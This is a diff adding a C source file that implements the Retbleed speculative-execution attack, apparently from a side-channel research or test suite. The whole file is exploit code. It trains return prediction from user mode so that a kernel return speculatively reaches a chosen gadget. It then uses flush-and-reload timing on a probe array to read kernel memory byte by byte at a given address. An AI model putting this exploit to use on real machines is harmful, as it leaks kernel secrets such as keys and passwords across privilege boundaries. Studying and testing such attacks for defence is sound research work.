@@ -1,0 +1,67 @@
+/*
+ * Retbleed (Wikner and Razavi, 2022): returns are predicted as indirect branches, always on some
+ * processors of AMD, and on some of Intel when more functions have returned than the return stack
+ * remembers. User mode trains a return of the kernel to go to code that reads where a register
+ * points.
+ */
+#include "attack.h"
+
+#include "gadget.h"
+#include "receive.h"
+#include "secret.h"
+#include "train.h"
+
+enum { ATTEMPTS = 4 };
+
+static const uint8_t *array, *branches[MOST_ADDRESSES];
+static uint64_t disclosure;
+
+static int read_byte(uint64_t address)
+{
+	const uint8_t *probe = array + SHARED_PROBE;
+
+	send_for_receiving();
+	for (int i = 0; i < options.branches.count; i++)
+		train(branches[i], disclosure);
+	flush_probe(probe);
+	leave_history(next_random());
+	receive_with(address);
+	return reload_probe(probe);
+}
+
+static int sample(int index)
+{
+	use_secret(index);
+	return read_byte(options.address + index);
+}
+
+/* Whether a byte that is known can be read. */
+static int works(void)
+{
+	int right = 0;
+
+	for (int i = 0; i < ATTEMPTS; i++)
+		right += read_byte(options.known) == KNOWN_BYTE;
+	return right > 1;
+}
+
+int main(int argc, char **argv)
+{
+	parse_options(argc, argv);
+	if (!options.address || !options.branches.count || !options.disclosures.count)
+		errx(2, "expected --address, --branch and --disclosure");
+	open_secret();
+	array = map_gadget(options.gadget);
+	catch_faults();
+	calibrate();
+	prepare_receiving();
+	for (int i = 0; i < options.branches.count; i++)
+		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
+	for (int i = 0; i < options.disclosures.count; i++) {
+		disclosure = options.disclosures.at[i];
+		if (works())
+			break;
+	}
+	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
+	return 0;
+}
